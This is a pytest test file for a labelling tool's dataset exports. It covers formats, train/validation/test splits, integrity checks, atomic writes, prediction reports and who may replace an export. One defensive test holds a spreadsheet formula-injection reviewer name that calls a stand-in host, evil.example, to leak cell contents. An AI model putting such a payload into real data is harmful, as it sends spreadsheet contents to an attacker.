"""Exports: every format read back, selection rules, split, integrity, atomicity, report."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import zipfile
from collections import Counter
from pathlib import Path

import pandas as pd
import pytest

import core.datasets.copies as export_mod
from core.datasets import (
    EXPORT_FORMATS,
    MANIFEST_COLUMNS,
    assign_splits,
    export_counts,
    export_labels,
    predictions_report,
    split_targets,
)
from core.errors import ExportError, NotFound
from core.intake import ingest
from core.models import Classifier, register_model
from core.review import decide, force_threshold, import_labels
from core.store import open_db
from tests.helpers import build_tiny_model, write_images

# image id -> label; the ingest below gives ids 1-6 to data/a, 7-12 to data/b (same file names)
HUMAN = {2: "fibres", 3: "particles", 4: "particles", 8: "fibres", 9: "particles", 11: "powder"}
SPECIAL = {5: "several", 10: "unusable"}
IMPORTED = {12: "powder"}  # replaces an auto label
AUTO = {1: "fibres", 6: "powder", 7: "fibres"}  # auto labels left at the end
DEFAULT = {**HUMAN, **IMPORTED}


def sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


@pytest.fixture
def env(tmp_path):
    """A real database with 12 ingested, predicted images carrying every kind of label."""
    db = open_db(tmp_path / "t.db")
    model_path = build_tiny_model(tmp_path / "models" / "tiny.onnx")
    model = register_model(db, model_path, activate=True)
    force_threshold(db, 0.7, model_id=model["id"], note="tests: auto labels allowed")
    write_images(tmp_path / "data" / "a", 6, seed=1)
    write_images(tmp_path / "data" / "b", 6, seed=2)
    rep = ingest(
        db, [tmp_path / "data"], classifier=Classifier(model_path), model_id=model["id"], workers=1
    )
    assert rep.added == 12 and not rep.failed, rep.summary()
    auto = dict(
        db.execute("SELECT image_id, label FROM current_labels WHERE source = 'auto'").fetchall()
    )
    assert auto == {**AUTO, 12: "powder"}, "the tiny model's routing changed; update AUTO"
    for image_id, label in HUMAN.items():
        decide(db, image_id, "relabel", reviewer="ana", label=label)
    for image_id, action in SPECIAL.items():
        decide(db, image_id, action, reviewer="ben")
    assert import_labels(db, list(IMPORTED.items())) == 1  # an auto label is the model's guess: replaced
    return db, tmp_path, model


def db_sha(db) -> dict[str, str]:
    return dict(
        db.execute("SELECT sha256, label FROM images i JOIN current_labels c ON c.image_id = i.id")
    )


def read_manifest(path: Path) -> list[dict]:
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def exported_images(out: Path) -> list[Path]:
    return sorted(p for p in out.rglob("*.png"))


# ---------------------------------------------------------------- formats


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_export_round_trip(env, fmt):
    db, tmp, _ = env
    out = tmp / "out"
    rep = export_labels(db, out, fmt=fmt)
    want = Counter(DEFAULT.values())
    assert rep.count == 7 and rep.per_class == dict(sorted(want.items())), rep.summary()
    assert rep.skipped == [] and rep.out == out and rep.format == fmt
    assert (out / ".semtriage-export.json").is_file()
    assert not list(tmp.glob("out.partial-*"))
    shas = db_sha(db)
    if fmt in ("csv", "jsonl"):
        (manifest,) = rep.files
        assert manifest == out / f"manifest.{fmt}"
        rows = read_manifest(manifest)
        assert list(rows[0]) == [c for c in MANIFEST_COLUMNS if c != "split"]
        assert exported_images(out) == []  # manifest only: nothing copied
        for r in rows:
            # relative to the common root of the sources (tmp/data)
            assert (tmp / "data" / r["path"]).resolve() == Path(r["original_path"]).resolve()
            assert sha(Path(r["original_path"])) == r["sha256"]
            assert shas[r["sha256"]] == r["label"]
        assert {r["path"] for r in rows} >= {"a/img_001.png", "b/img_001.png"}
    elif fmt == "imagefolder":
        assert rep.files == [out / "manifest.csv"]
        files = exported_images(out)
        assert Counter(p.parent.name for p in files) == want
        for p in files:
            assert shas[sha(p)] == p.parent.name  # byte-identical copy, in its class folder
        rows = read_manifest(out / "manifest.csv")
        assert list(rows[0]) == [c for c in MANIFEST_COLUMNS if c != "split"]
        assert sorted(r["path"] for r in rows) == sorted(
            p.relative_to(out).as_posix() for p in files
        )
        # img_001.png of data/a and data/b both landed in fibres/: one got the sha prefix
        fibres = sorted(p.name for p in (out / "fibres").iterdir())
        assert "img_001.png" in fibres and any(
            n.endswith("_img_001.png") and n != "img_001.png" for n in fibres
        )
    else:  # hf
        assert rep.files == [out / "train" / "metadata.csv"]
        meta = pd.read_csv(out / "train" / "metadata.csv")
        assert list(meta.columns[:2]) == ["file_name", "label"]
        assert {"sha256", "reviewer", "source", "original_path", "labelled_at"} <= set(meta.columns)
        assert len(meta) == 7 and Counter(meta["label"]) == want
        for _, r in meta.iterrows():
            p = out / "train" / r["file_name"]
            assert sha(p) == r["sha256"] and shas[r["sha256"]] == r["label"]
        assert len(exported_images(out)) == 7


def test_manifest_fields(env):
    db, tmp, model = env
    rep = export_labels(db, tmp / "out", fmt="jsonl", include_auto=True)
    rows = {r["original_path"]: r for r in read_manifest(rep.files[0])}
    human = rows[str(tmp / "data" / "a" / "img_002.png")]
    assert (
        human["label"] == "particles" and human["reviewer"] == "ana" and human["source"] == "human"
    )
    assert human["model_version"] == model["version"] and 0 < human["probability"] < 1
    assert human["labelled_at"].endswith("Z")
    imported = rows[str(tmp / "data" / "b" / "img_005.png")]
    assert imported["source"] == "import" and imported["probability"] is None
    auto = rows[str(tmp / "data" / "a" / "img_000.png")]
    assert auto["source"] == "auto" and auto["reviewer"] == "auto"


def test_auto_labels_only_on_request(env):
    db, tmp, _ = env
    assert export_counts(db) == {"fibres": 2, "particles": 3, "powder": 2}
    assert export_counts(db, include_auto=True) == {"fibres": 4, "particles": 3, "powder": 3}
    calls = []
    rep = export_labels(
        db, tmp / "with", fmt="imagefolder", include_auto=True, progress=lambda *a: calls.append(a)
    )
    assert rep.count == 10 and rep.per_class == {"fibres": 4, "particles": 3, "powder": 3}
    assert calls[-1][0] == 1.0 and calls[-1][1].startswith("10/10 ")  # all 10 of 10 done
    assert json.loads(json.dumps(rep.to_json()))["count"] == 10 and "10 images" in rep.summary()
    sources = Counter(r["source"] for r in read_manifest(tmp / "with" / "manifest.csv"))
    assert sources == {"human": 6, "auto": 3, "import": 1}


def test_special_labels_only_on_request(env):
    db, tmp, _ = env
    rep = export_labels(db, tmp / "plain", fmt="imagefolder")
    assert not (tmp / "plain" / "several").exists() and not (tmp / "plain" / "unusable").exists()
    assert export_counts(db, include_special=True) == {
        "fibres": 2,
        "particles": 3,
        "powder": 2,
        "several": 1,
        "unusable": 1,
    }
    rep = export_labels(db, tmp / "special", fmt="imagefolder", include_special=True)
    assert rep.per_class["several"] == 1 and rep.per_class["unusable"] == 1
    assert len(list((tmp / "special" / "several").iterdir())) == 1


def test_classes_filter_and_empty_selection(env):
    db, tmp, _ = env
    rep = export_labels(db, tmp / "one", fmt="csv", classes=["particles"])
    assert rep.per_class == {"particles": 3}
    with pytest.raises(ExportError, match="Nothing to export"):
        export_labels(db, tmp / "none", classes=["nanowires"])
    assert not (tmp / "none").exists()
    with pytest.raises(ExportError, match="Unknown export format"):
        export_labels(db, tmp / "x", fmt="parquet")


def test_zip_output(env):
    db, tmp, _ = env
    rep = export_labels(db, tmp / "ds", fmt="hf", zip_output=True)
    assert rep.zip_path == tmp / "ds.zip"
    with zipfile.ZipFile(rep.zip_path) as zf:
        infos = {i.filename: i for i in zf.infolist()}
        assert infos["ds/train/metadata.csv"].compress_type == zipfile.ZIP_DEFLATED
        pngs = [i for n, i in infos.items() if n.endswith(".png")]
        assert len(pngs) == 7 and all(i.compress_type == zipfile.ZIP_STORED for i in pngs)
        for i in pngs:
            assert hashlib.sha256(zf.read(i)).hexdigest() == sha(tmp / i.filename)
    # a second export replaces both the folder and the zip it wrote
    rep2 = export_labels(db, tmp / "ds", fmt="hf", zip_output=True, include_auto=True)
    with zipfile.ZipFile(rep2.zip_path) as zf:
        assert sum(n.endswith(".png") for n in zf.namelist()) == 10
    assert not [p for p in tmp.iterdir() if ".partial-" in p.name or ".old-" in p.name]


# ---------------------------------------------------------------- split


def test_split_targets():
    assert split_targets(100, (0.8, 0.1, 0.1)) == [80, 10, 10]
    assert split_targets(3, (0.8, 0.1, 0.1)) == [1, 1, 1]
    assert split_targets(4, (0.8, 0.1, 0.1)) == [2, 1, 1]
    assert split_targets(2, (0.8, 0.1, 0.1)) == [2, 0, 0]
    assert split_targets(5, (0.9, 0.1, 0.0)) == [4, 1, 0]
    assert sum(split_targets(17, (0.7, 0.2, 0.1))) == 17


def test_split_is_deterministic_and_stratified():
    labels = ["a"] * 50 + ["b"] * 30 + ["c"] * 3 + ["d"] * 1
    groups = [None] * len(labels)
    s1 = assign_splits(labels, groups, (0.8, 0.1, 0.1), seed=7)
    assert s1 == assign_splits(labels, groups, (0.8, 0.1, 0.1), seed=7)
    assert s1 != assign_splits(labels, groups, (0.8, 0.1, 0.1), seed=8)
    per = Counter(zip(labels, s1))
    assert [per["a", k] for k in range(3)] == [40, 5, 5]
    assert [per["b", k] for k in range(3)] == [24, 3, 3]
    assert [per["c", k] for k in range(3)] == [1, 1, 1]  # >= 3 images: one in every split
    assert per["d", 0] == 1


def test_split_keeps_groups_together():
    # class x: 10 specimens of 10 images; class y: the same specimens, 4 images each
    labels = ["x"] * 100 + ["y"] * 40
    groups = [f"g{i // 10}" for i in range(100)] + [f"g{i // 4}" for i in range(40)]
    s = assign_splits(labels, groups, (0.8, 0.1, 0.1), seed=3)
    where: dict[str, set[int]] = {}
    for g, k in zip(groups, s):
        where.setdefault(g, set()).add(k)
    assert all(len(v) == 1 for v in where.values()), where  # no specimen in two splits
    per = Counter(zip(labels, s))
    assert [per["x", k] for k in range(3)] == [80, 10, 10]
    assert [per["y", k] for k in range(3)] == [32, 4, 4]


def test_split_breaks_groups_only_when_needed():
    # one folder per class (labels from folders): the group must be split image by image
    s = assign_splits(["p"] * 20, ["p"] * 20, (0.8, 0.1, 0.1))
    assert Counter(s) == {0: 16, 1: 2, 2: 2}
    # groups of 60, 30 and 10: the 60 stays whole, every split gets images
    groups = ["big"] * 60 + ["mid"] * 30 + ["small"] * 10
    s = assign_splits(["q"] * 100, groups, (0.8, 0.1, 0.1), seed=1)
    assert len({k for g, k in zip(groups, s) if g == "big"}) == 1
    assert Counter(s) == {0: 80, 1: 10, 2: 10}


def test_export_with_split(env):
    db, tmp, _ = env
    a = export_labels(db, tmp / "s1", fmt="imagefolder", split=(0.6, 0.2, 0.2), seed=5)
    b = export_labels(db, tmp / "s2", fmt="csv", split=(0.6, 0.2, 0.2), seed=5)
    assert a.per_split == b.per_split and set(a.per_split) == {"train", "validation", "test"}
    assert sum(sum(v.values()) for v in a.per_split.values()) == 7
    assert a.per_split["train"]["particles"] >= 1 and all(
        a.per_split[s].get("particles", 0) == 1 for s in ("validation", "test")
    )
    for split, per in a.per_split.items():
        for label, n in per.items():
            assert len(list((tmp / "s1" / split / label).iterdir())) == n
    rows = read_manifest(tmp / "s2" / "manifest.csv")
    assert list(rows[0]) == list(MANIFEST_COLUMNS)
    hf = export_labels(db, tmp / "s3", fmt="hf", split=(0.6, 0.2, 0.2), seed=5)
    assert hf.per_split == a.per_split
    for split in ("train", "validation", "test"):
        meta = pd.read_csv(tmp / "s3" / split / "metadata.csv")
        assert Counter(meta["label"]) == Counter(a.per_split[split])
        assert all((tmp / "s3" / split / f).is_file() for f in meta["file_name"])
    with pytest.raises(ExportError, match="non-negative"):
        export_labels(db, tmp / "bad", split=(0.8, -0.1, 0.3))


# ---------------------------------------------------------------- integrity


def test_changed_or_missing_source_is_skipped(env):
    db, tmp, _ = env
    changed = tmp / "data" / "a" / "img_002.png"
    changed.write_bytes(changed.read_bytes() + b"x")
    missing = tmp / "data" / "b" / "img_004.png"
    missing.unlink()
    for fmt in ("imagefolder", "csv"):
        rep = export_labels(db, tmp / f"out-{fmt}", fmt=fmt)
        reasons = dict(rep.skipped)
        assert set(reasons) == {str(changed), str(missing)}, rep.skipped
        assert "changed since ingest" in reasons[str(changed)]
        assert "missing" in reasons[str(missing)]
        assert rep.count == 5 and rep.per_class == {"fibres": 2, "particles": 2, "powder": 1}
    assert len(exported_images(tmp / "out-imagefolder")) == 5


def test_unchanged_size_and_mtime_can_still_be_verified(env):
    db, tmp, _ = env
    p = tmp / "data" / "a" / "img_003.png"
    st = p.stat()
    data = bytearray(p.read_bytes())
    data[-20] ^= 0xFF  # same size, same mtime, different bytes
    p.write_bytes(bytes(data))
    os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert export_labels(db, tmp / "quick", fmt="csv").skipped == []
    assert [r for r, _ in export_labels(db, tmp / "full", fmt="csv", verify=True).skipped] == [
        str(p)
    ]
    assert [r for r, _ in export_labels(db, tmp / "copy", fmt="hf").skipped] == [str(p)]


def test_duplicate_path_used_when_the_first_is_gone(env):
    db, tmp, _ = env
    src = tmp / "data" / "a" / "img_003.png"
    dup = tmp / "more" / "copy.png"
    dup.parent.mkdir()
    dup.write_bytes(src.read_bytes())
    rep = ingest(db, [dup], workers=1)
    assert rep.duplicates == 1
    src.unlink()
    out = export_labels(db, tmp / "out", fmt="imagefolder")
    assert out.skipped == [] and out.count == 7
    rows = [
        r for r in read_manifest(tmp / "out" / "manifest.csv") if r["original_path"] == str(dup)
    ]
    assert len(rows) == 1 and rows[0]["path"] == "particles/img_003.png"


def test_odd_names_and_labels(tmp_path):
    db = open_db(tmp_path / "t.db")
    folder = tmp_path / "données"
    write_images(folder, 2)
    (folder / "img_000.png").rename(folder / "Ünïcode µm 試料.png")
    (folder / "img_001.png").rename(folder / ".hidden.png")
    ingest(db, [folder], workers=1)
    ids = [r[0] for r in db.execute("SELECT id FROM images ORDER BY name")]
    import_labels(db, [(ids[0], "a/b"), (ids[1], "a/b")])
    rep = export_labels(db, tmp_path / "out", fmt="imagefolder")
    names = sorted(p.name for p in (tmp_path / "out" / "a_b").iterdir())
    assert names == ["hidden.png", "Ünïcode µm 試料.png"]
    assert rep.per_class == {"a/b": 2}


# ---------------------------------------------------------------- atomicity


def test_failure_mid_export_leaves_nothing(env, monkeypatch):
    db, tmp, _ = env
    real = export_mod._copy_hashed
    calls = {"n": 0}

    def flaky(src, dst):
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError("disk on fire")
        return real(src, dst)

    monkeypatch.setattr(export_mod, "_copy_hashed", flaky)
    with pytest.raises(OSError, match="disk on fire"):
        export_labels(db, tmp / "out", fmt="imagefolder", zip_output=True)
    assert calls["n"] == 3
    assert not (tmp / "out").exists() and not (tmp / "out.zip").exists()
    assert not [p for p in tmp.iterdir() if ".partial-" in p.name]


def test_failed_reexport_keeps_the_previous_one(env, monkeypatch):
    db, tmp, _ = env
    export_labels(db, tmp / "out", fmt="imagefolder")
    before = sorted(p.relative_to(tmp) for p in (tmp / "out").rglob("*"))

    def boom(*a, **k):
        raise RuntimeError("interrupted")

    monkeypatch.setattr(export_mod, "_copy_hashed", boom)
    with pytest.raises(RuntimeError):
        export_labels(db, tmp / "out", fmt="imagefolder", include_auto=True)
    assert sorted(p.relative_to(tmp) for p in (tmp / "out").rglob("*")) == before


def test_refuses_to_replace_foreign_folders(env):
    db, tmp, _ = env
    (tmp / "mine").mkdir()
    (tmp / "mine" / "thesis.docx").write_text("precious")
    with pytest.raises(ExportError, match="not empty and was not written by an export"):
        export_labels(db, tmp / "mine", fmt="csv")
    assert (tmp / "mine" / "thesis.docx").read_text() == "precious"
    (tmp / "afile").write_text("x")
    with pytest.raises(ExportError, match="not a folder"):
        export_labels(db, tmp / "afile")
    (tmp / "empty").mkdir()
    assert export_labels(db, tmp / "empty", fmt="csv").count == 7
    (tmp / "z.zip").write_bytes(b"not ours")
    with pytest.raises(ExportError, match="not written by an export"):
        export_labels(db, tmp / "z", zip_output=True)


# ---------------------------------------------------------------- predictions report


def test_predictions_report_csv(env):
    db, tmp, model = env
    out = predictions_report(db, tmp / "rep" / "predictions.csv")
    df = pd.read_csv(out)
    assert len(df) == 12
    assert list(df.columns) == [
        "path",
        "sha256",
        "model_version",
        "pred",
        "p1",
        "second",
        "p2",
        "margin",
        "entropy",
        "queue",
        "reason",
        "label",
        "label_source",
        "p_fibres",
        "p_particles",
        "p_powder",
    ]
    assert ((df[["p_fibres", "p_particles", "p_powder"]].sum(axis=1) - 1).abs() < 1e-4).all()
    assert ((df["p1"] - df[["p_fibres", "p_particles", "p_powder"]].max(axis=1)).abs() < 1e-5).all()
    assert set(df["queue"]) == {"auto", "uncertain", "mixed"}
    assert Counter(df["label_source"].dropna()) == {"human": 8, "auto": 3, "import": 1}
    assert (df["model_version"] == model["version"]).all()


def test_predictions_report_jsonl_and_model_choice(env):
    db, tmp, model = env
    out = predictions_report(db, tmp / "p.jsonl", fmt="jsonl", model_id=model["id"])
    rows = read_manifest(out)
    assert len(rows) == 12 and set(rows[0]["probs"]) == {"fibres", "particles", "powder"}
    assert rows[0]["pred"] == max(rows[0]["probs"], key=rows[0]["probs"].get)
    # a second model that has predicted nothing: every image listed, prediction fields empty
    other = register_model(db, build_tiny_model(tmp / "models" / "other.onnx", ("u", "v")))
    rows = read_manifest(predictions_report(db, tmp / "o.jsonl", fmt="jsonl", model_id=other["id"]))
    assert len(rows) == 12 and all(r["pred"] is None and r["probs"] is None for r in rows)
    with pytest.raises(NotFound):
        predictions_report(db, tmp / "x.csv", model_id=999)
    with pytest.raises(ExportError, match="is a folder"):
        predictions_report(db, tmp)
    assert not list(tmp.glob("*.partial-*"))


def test_predictions_report_needs_a_model(tmp_path):
    db = open_db(tmp_path / "t.db")
    with pytest.raises(ExportError, match="No active model"):
        predictions_report(db, tmp_path / "p.csv")


def test_formula_reviewer_names_are_inert_in_csv_exports(env):
    """Issue 18, finding 14: a reviewer named like a spreadsheet formula."""
    import csv

    db, tmp_path, _ = env
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    decide(db, 3, "relabel", reviewer=evil, label="powder")
    export_labels(db, tmp_path / "out", fmt="csv")
    rows = list(csv.DictReader((tmp_path / "out" / "manifest.csv").open(encoding="utf-8")))
    cells = [v for r in rows for v in r.values()]
    assert "'" + evil in cells
    assert not any(v.startswith(("=", "+", "@")) for v in cells), "a cell a spreadsheet would run"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_several_exports_its_classes(env, fmt):
    """A mixed image's categories reach the dataset: 'a;b' in a csv manifest, a list in jsonl."""
    db, tmp, _ = env
    decide(db, 1, "several", reviewer="ana", classes=["fibres", "particles"])
    rep = export_labels(db, tmp / fmt, fmt=fmt, include_special=True)
    rows = read_manifest(tmp / fmt / f"manifest.{fmt}")
    assert rep.count == len(rows)
    several = [r for r in rows if r["label"] == "several"]
    want = "fibres;particles" if fmt == "csv" else ["fibres", "particles"]
    empty = "" if fmt == "csv" else None
    assert sorted(r["classes"] == want for r in several) == [False, True], "one named, one not"
    assert [r["classes"] for r in several if r["classes"] != want] == [empty]
    assert all(r["classes"] == empty for r in rows if r["label"] != "several")


def test_only_its_maker_or_an_administrator_replaces_an_export(env):
    """Issue 18 (15): exports are shared folders; a reviewer writing under the name of someone
    else's export would overwrite it. The export records who made it; another non-admin is
    refused by name and nothing of the first export changes; its maker and an admin may."""
    from core.access import User
    from core.datasets import MARKER
    from core.errors import Forbidden

    db, tmp, _ = env
    out = tmp / "exports" / "labels-today"
    alice, bob, boss = User("alice", False), User("bob", False), User("boss", True)
    export_labels(db, out, fmt="csv", zip_output=True, by=alice)
    assert json.loads((out / MARKER).read_text())["by"] == "alice"
    before = {p.name: p.read_bytes() for p in [*out.iterdir(), out.with_name(out.name + ".zip")]}
    with pytest.raises(Forbidden, match=r"'bob' may not replace the export 'labels-today' \(made by 'alice'\)"):
        export_labels(db, out, fmt="jsonl", zip_output=True, by=bob)
    after = {p.name: p.read_bytes() for p in [*out.iterdir(), out.with_name(out.name + ".zip")]}
    assert after == before, "the refused export changed nothing"
    assert not list(out.parent.glob("*.partial-*")), "and left nothing behind"
    export_labels(db, out, fmt="jsonl", by=User("Alice", False))  # its maker (names without case)
    assert (out / "manifest.jsonl").is_file()
    marker = json.loads((out / MARKER).read_text())
    del marker["by"]  # an export without a maker on record (an older one): admins only
    (out / MARKER).write_text(json.dumps(marker))
    with pytest.raises(Forbidden, match="made by someone else"):
        export_labels(db, out, fmt="csv", zip_output=True, by=alice)
    rep = export_labels(db, out, fmt="csv", zip_output=True, by=boss)  # an administrator may
    assert rep.count and json.loads((out / MARKER).read_text())["by"] == "boss"
    export_labels(db, tmp / "exports" / "bobs", fmt="csv", by=bob)  # a new name: anyone
    export_labels(db, out, fmt="csv")  # local use (the CLI): by=None
